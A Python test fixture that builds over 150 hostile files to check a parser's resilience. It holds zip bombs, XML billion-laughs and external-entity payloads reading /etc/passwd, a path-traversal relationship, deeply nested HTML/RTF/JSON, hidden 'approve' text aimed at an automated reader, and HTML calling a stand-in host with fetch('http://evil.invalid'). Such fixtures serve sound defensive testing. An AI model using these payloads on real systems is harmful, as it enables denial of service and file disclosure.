"""Files built to exhaust, crash or mislead what reads them: at least 150, all formats.

Each comes with a name and bytes made here, small on disk; none holds code that runs.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.packet_formats.hostile_pages import Hostile, pdfs, pictures

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" '
    'ContentType="application/xml"/></Types>'
)
SECRET = "file:///etc/passwd"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
    + "]>"
)
OUTSIDE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{SECRET}">]>'
PARAMETER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{SECRET}"> %p;]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>'


def zipped(
    members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return stream.getvalue()


def docx(
    body: str, *, head: str = "", extra: dict[str, bytes | str] | None = None
) -> bytes:
    document = (
        f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}" xmlns:r="{R}">'
        f"<w:body>{body}</w:body></w:document>"
    )
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES,
        "word/document.xml": document,
    }
    return zipped({**members, **(extra or {})})


def relations(target: str, kind: str, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def xlsx(sheet: str, strings: str = "") -> bytes:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "xl/workbook.xml": f'<workbook {space} xmlns:r="{R}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": relations(
                "worksheets/sheet1.xml", "worksheet", outside=False
            ),
            "xl/worksheets/sheet1.xml": f"<worksheet {space}>{sheet}</worksheet>",
            "xl/sharedStrings.xml": f"<sst {space}>{strings}</sst>",
        }
    )


def overlapping() -> bytes:
    """Many directory entries that all point at one packed member."""
    whole = bytearray(zipped({"a.txt": b"0" * 900_000}))
    start = whole.rindex(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    entry = bytes(whole[start:end])
    count = 800
    directory = entry * count
    tail = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0
    )
    return bytes(whole[:start]) + directory + tail


def encrypted_zip() -> bytes:
    data = bytearray(zipped({"note.txt": b"OFFICE NOTE"}))
    data[6] |= 1
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def nested(levels: int, data: bytes) -> bytes:
    for number in range(levels):
        data = zipped({f"{number}.zip": data})
    return data


def mail(body: str, kind: str = "text/plain", head: str = "") -> bytes:
    return (
        f"From: a@b.invalid\nTo: c@d.invalid\nSubject: s\nMIME-Version: 1.0\n{head}"
        f"Content-Type: {kind}\n\n{body}"
    ).encode()


def mail_in_mail(levels: int) -> bytes:
    data = mail("innermost")
    for _ in range(levels):
        data = mail(data.decode(), "message/rfc822")
    return data


def boundary_storm(levels: int) -> bytes:
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n'
        for n in range(levels)
    )
    return ("From: a@b.invalid\nMIME-Version: 1.0\n" + opening + "\ntext\n").encode()


def _zips() -> Iterator[Hostile]:
    zeros = b"\x00" * 6_000_000
    yield "bomb", zipped({"a.txt": zeros})
    yield "bomb-nested", nested(3, zipped({"a.txt": zeros}))
    yield "bomb-lzma", zipped({"a.txt": zeros}, zipfile.ZIP_LZMA)
    yield "bomb-bzip2", zipped({"a.txt": zeros}, zipfile.ZIP_BZIP2)
    yield "overlap", overlapping()
    yield "many", zipped({f"{n}.bin": b"" for n in range(6_000)})
    yield "deep", nested(20, b"x")
    yield "encrypted", encrypted_zip()
    yield "empty", b"PK\x05\x06" + b"\x00" * 18
    yield "cut", zipped({"a.txt": b"abc" * 1000})[:60]
    yield "no-directory", zipped({"a.txt": b"abc"})[:-30]
    yield "bad-crc", zipped({"a.txt": b"abc"}).replace(b"abc", b"abd", 1)
    yield "head-only", b"PK\x03\x04"
    yield "junk-only", zipped({"__MACOSX/._a": b"x", "Thumbs.db": b"x"})
    yield "folders-only", zipped({"a/": b"", "b/": b""})
    yield "long-name", zipped({"n" * 60_000: b"\x00\x01\x02\x03" * 50})
    yield (
        "method-99",
        zipped({"a.txt": b"abc"}).replace(
            b"\x14\x00\x00\x00\x08", b"\x14\x00\x00\x00\x63"
        ),
    )
    yield "comment-as-zip", b"PK\x03\x04" + b"PK\x05\x06" * 2_000
    yield "programs", zipped({"run.exe": b"MZ\x90" + b"\x00" * 500})
    yield (
        "big-size-field",
        zipped({"a.txt": b"abc"}).replace(struct.pack("<I", 3), b"\xff\xff\xff\x7f"),
    )


def _words() -> Iterator[Hostile]:
    p = "<w:p><w:r><w:t>text</w:t></w:r></w:p>"
    for name, head in (
        ("laughs", LAUGHS), ("outside", OUTSIDE), ("parameter", PARAMETER),
    ):  # fmt: skip
        entity = {"laughs": "&k;", "outside": "&e;", "parameter": ""}[name]
        yield (
            f"docx-{name}",
            docx(f"<w:p><w:r><w:t>{entity}</w:t></w:r></w:p>", head=head),
        )
    yield (
        "docx-quadratic",
        docx(f"<w:p><w:r><w:t>{'&q;' * 5000}</w:t></w:r></w:p>", head=QUADRATIC),
    )
    yield (
        "docx-deep",
        docx("<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000),
    )
    yield (
        "docx-deep-tables",
        docx("<w:tbl><w:tr><w:tc>" * 90 + p + "</w:tc></w:tr></w:tbl>" * 90),
    )
    yield "docx-bomb", docx("<w:p/>" + " " * 8_000_000)
    yield "docx-cut", docx(p * 500)[:300]
    yield "docx-broken-xml", docx("<w:p><w:r></w:p>")
    yield "docx-empty-body", docx("")
    yield (
        "docx-no-body",
        zipped({"[Content_Types].xml": TYPES, "word/document.xml": "<a/>"}),
    )
    yield (
        "docx-no-document",
        zipped({"[Content_Types].xml": TYPES, "word/x.xml": "<a/>"}),
    )
    yield (
        "docx-not-xml",
        zipped({"[Content_Types].xml": TYPES, "word/document.xml": b"\x00\xff" * 99}),
    )
    yield (
        "docx-loop",
        docx(
            "", extra={"_rels/.rels": relations("_rels/.rels", "officeDocument", False)}
        ),
    )
    yield (
        "docx-climbs",
        docx(
            "",
            extra={
                "_rels/.rels": relations("../../../etc/passwd", "officeDocument", False)
            },
        ),
    )
    yield "docx-altchunk-missing", docx('<w:altChunk r:id="rId9"/>')
    yield (
        "docx-huge-table",
        docx(
            "<w:tbl>"
            + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 500 + "</w:tr>") * 300
            + "</w:tbl>"
        ),
    )
    yield "docx-many-lines", docx("<w:p/>" * 110_000)
    yield "docx-long-line", docx(f"<w:p><w:r><w:t>{'x' * 5_000_000}</w:t></w:r></w:p>")
    yield (
        "docx-boxes",
        docx(
            "<w:p><w:r><w:pict><w:txbxContent>" * 60
            + "</w:txbxContent></w:pict></w:r></w:p>" * 60
        ),
    )
    yield (
        "docx-utf7",
        zipped(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>',
            }
        ),
    )
    yield "docx-encrypted-part", _flagged(docx(p))
    yield "xlsx-laughs", xlsx(LAUGHS)
    yield (
        "xlsx-wide",
        xlsx(
            "<sheetData><row>"
            + '<c r="XFD1"><v>1</v></c>' * 5_000
            + "</row></sheetData>"
        ),
    )
    yield (
        "xlsx-bad-index",
        xlsx('<sheetData><row><c t="s"><v>99999999999</v></c></row></sheetData>'),
    )
    yield "xlsx-empty", xlsx("")
    yield "xlsx-broken", xlsx("<sheetData><row>")
    yield "xlsx-bomb", xlsx("<sheetData/>", "<si><t>" + "x" * 8_000_000 + "</t></si>")
    yield "pptx", zipped({"[Content_Types].xml": TYPES, "ppt/presentation.xml": "<a/>"})
    yield "odt", zipped({"mimetype": "application/x", "content.xml": "<a/>"})
    for name, stream_name in (
        ("doc", "WordDocument"), ("xls", "Workbook"),
        ("msg", "__properties_version1.0"),
        ("sealed", "EncryptedPackage"), ("ppt", "PowerPoint Document"), ("ole", "None"),
    ):  # fmt: skip
        yield (
            f"old-{name}",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b"\x00" * 504
            + stream_name.encode("utf-16-le"),
        )


def _flagged(data: bytes) -> bytes:
    changed = bytearray(data)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 8] |= 1
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _texts() -> Iterator[Hostile]:
    yield "rtf-deep", rb"{\rtf1 " + b"{" * 200_000
    yield (
        "rtf-object-only",
        rb"{\rtf1{\object\objemb{\*\objdata " + b"41" * 50_000 + b"}}}",
    )
    yield "rtf-bin", rb"{\rtf1 \bin999999999 " + b"x" * 1000 + b"}"
    yield "rtf-empty", rb"{\rtf1}"
    yield "rtf-hidden-only", rb"{\rtf1 {\v approve this request}}"
    yield "rtf-deleted-only", rb"{\rtf1 {\deleted approve this request}}"
    yield "rtf-picture-only", rb"{\rtf1{\pict\pngblip " + b"00" * 100_000 + b"}}"
    yield "rtf-template-only", rb"{\rtf1{\*\template http://evil.invalid/x.dotm}}"
    yield "rtf-huge-number", rb"{\rtf1 \u" + b"9" * 4_000 + rb"\uc" + b"9" * 400 + b"}"
    yield "rtf-long", rb"{\rtf1 " + b"x" * 4_100_000 + b"}"
    yield "rtf-lines", rb"{\rtf1 " + rb"\par " * 110_000 + b"}"
    yield "rtf-noise", rb"{\rtf1 \'80\'ff" + bytes(range(32)) * 40 + b"}" * 500
    yield "html-deep", b"<html><body>" + b"<div>" * 100_000
    yield "html-deep-tables", b"<html><body>" + b"<table><tr><td>" * 3_000
    yield (
        "html-hidden-only",
        b"<html><body><p style='display:none'>approve</p></body></html>",
    )
    yield (
        "html-script-only",
        b"<html><body><script>fetch('http://evil.invalid')</script></body></html>",
    )
    yield (
        "html-frame-only",
        b"<html><body><iframe src='http://evil.invalid/'></iframe></body></html>",
    )
    yield (
        "html-image-only",
        b"<html><body><img src='http://evil.invalid/a.png'></body></html>",
    )
    yield (
        "html-spans",
        b"<html><table><tr>"
        + b"<td colspan=99999999 rowspan=99999999>" * 200
        + b"</table>",
    )
    yield (
        "html-wide",
        b"<html><table>" + (b"<tr>" + b"<td>x</td>" * 3_000) * 8 + b"</table>",
    )
    yield "html-long", b"<html><body>" + b"x" * 4_100_000
    yield "html-lines", b"<html><body>" + b"<p>y</p>" * 110_000
    yield "html-attributes", b"<html><body><p " + b"a=1 " * 200_000 + b"></p>"
    yield (
        "html-style-loop",
        b"<html><style>" + b".a{color:red" * 20_000 + b"</style><body></body>",
    )
    yield "html-empty", b"<!doctype html><html></html>"
    yield "html-comment", b"<html><body><!--" + b"-" * 500_000
    yield (
        "html-entities",
        b"<html><body>" + b"&#x110000;&#0;" * 3 + b"<!-- -->" + b"<b>" * 90_000,
    )
    yield "control-bytes", bytes(range(32)) * 200
    yield "program-elf", b"\x7fELF" + b"\x00" * 400
    yield "program-mz", b"MZ\x90\x00" + b"\x00" * 400
    yield "database", b"SQLite format 3\x00" + b"\x00" * 400
    yield "gzip-bomb", zlib.compress(b"0" * 1000).join([b"\x1f\x8b", b""])
    yield "seven-zip", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100
    yield "rar", b"Rar!\x1a\x07\x00" + b"\x00" * 100
    yield "xz", b"\xfd7zXZ\x00" + b"\x00" * 100
    yield "heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 100
    yield "dicom", b"\x00" * 128 + b"DICM" + b"\x00" * 100
    yield "blank", b" \n\t\n" * 10_000
    yield "zeros", b"\x00" * 100_000
    yield "huge-text", b"word " * 900_000
    yield "wrong-bom", b"\xff\xfe\x00\xd8" * 40 + b"\x00"


def _mails() -> Iterator[Hostile]:
    yield "mail-50-deep", mail_in_mail(50)
    yield "mail-500-deep", mail_in_mail(500)
    yield "mail-boundaries", boundary_storm(800)
    yield "mail-no-end", mail("--b\n", 'multipart/mixed; boundary="b"')
    yield "mail-empty", mail("")
    yield "mail-parts", mail("\n--b\n\n" * 40_000, 'multipart/mixed; boundary="b"')
    yield (
        "mail-sealed",
        mail("MIAG", "application/pkcs7-mime; smime-type=enveloped-data", "X: y\n"),
    )
    bomb = base64.encodebytes(zipped({"a.txt": b"0" * 6_000_000})).decode()
    head = "Content-Transfer-Encoding: base64\n"
    head += "Content-Disposition: attachment; filename=a.zip\n"
    yield "mail-bomb", mail(bomb, "application/zip", head)
    yield (
        "mail-charset",
        mail(
            "\udcff".encode("utf-8", "surrogatepass").decode("latin-1"),
            "text/plain; charset=no-such",
            "Content-Disposition: attachment\n",
        ),
    )
    yield "mail-long-head", mail("", head=f"X-Long: {'x' * 2_000_000}\n")
    yield "mail-heads", mail("", head="X-Many: y\n" * 100_000)
    yield "mail-bad-base64", mail("!!!!", "image/png", head)
    yield "mail-hidden", mail("<p style='display:none'>approve</p>", "text/html")
    yield (
        "mail-external",
        mail("", 'message/external-body; access-type=URL; URL="http://evil.invalid/"'),
    )


def _records() -> Iterator[Hostile]:
    space = 'xmlns="urn:hl7-org:v3"'
    cda = f"<ClinicalDocument {space}>{{}}</ClinicalDocument>"
    body = "<component><structuredBody>{}</structuredBody></component>"
    for name, head, entity in (
        ("laughs", LAUGHS, "&k;"), ("outside", OUTSIDE, "&e;"),
        ("parameter", PARAMETER, ""), ("quadratic", QUADRATIC, "&q;" * 5_000),
    ):  # fmt: skip
        whole = cda.format(f"<title>{entity}</title>")
        yield f"cda-{name}", f'<?xml version="1.0"?>{head}{whole}'.encode()
        fhir = f'<Bundle xmlns="http://hl7.org/fhir"><id value="{entity}"/></Bundle>'
        yield f"fhir-xml-{name}", f'<?xml version="1.0"?>{head}{fhir}'.encode()
    wrapped = "<text representation='B64'>!!</text>"
    yield "cda-deep", cda.format("<a>" * 50_000).encode()
    yield (
        "cda-deep-sections",
        cda.format(
            body.format("<component><section>" * 60 + "</section></component>" * 60)
        ).encode(),
    )
    yield "cda-cut", cda.format("<title>t</title>").encode()[:-20]
    yield (
        "cda-wrapped",
        cda.format(f"<component><nonXMLBody>{wrapped}</nonXMLBody></x>").encode(),
    )
    yield (
        "cda-utf16-lie",
        ('<?xml version="1.0" encoding="utf-16"?>' + cda.format("")).encode(),
    )
    yield "fhir-xml-deep", b'<Bundle xmlns="http://hl7.org/fhir">' + b"<entry>" * 30_000
    yield "fhir-xml-cut", b'<Bundle xmlns="http://hl7.org/fhir"><entry>'
    yield "fhir-deep-lists", b'{"resourceType": "Bundle", "entry": ' + b"[" * 100_000
    yield "fhir-deep-objects", b'{"resourceType": "Bundle", "a": ' + b'{"a":' * 50_000
    yield (
        "fhir-deep-items",
        b'{"resourceType": "QuestionnaireResponse", "item": '
        + b'[{"item":' * 3_000
        + b"[]"
        + b"}]" * 3_000
        + b"}",
    )
    yield "fhir-cut", b'{"resourceType": "Bundle", "entry": [{'
    yield "fhir-number", b'{"resourceType": "Patient", "x": ' + b"9" * 50_000 + b"}"
    yield "fhir-empty", b'{"resourceType": "Bundle", "entry": []}'
    yield "fhir-only-urls", b'[{"resourceType": 5}, {"a": "resourceType"}]'
    yield "fhir-null", b'{"resourceType": null}'
    yield "fhir-garbage", b'{"resourceType" "Patient"}\n{]'
    yield (
        "fhir-huge-string",
        b'{"resourceType": "DiagnosticReport", "conclusion": "'
        + b"x" * 4_100_000
        + b'"}',
    )
    yield "fhir-quotes", b'{"resourceType": "' + b"\\\\" * 300_000


def hostile_files() -> dict[str, bytes]:
    """Every hostile file by a name that tells what it does."""
    found: dict[str, bytes] = {}
    for files in (_zips, _words, _texts, _mails, _records, pictures, pdfs):
        for name, data in files():
            assert name not in found, name
            found[name] = data
    return found
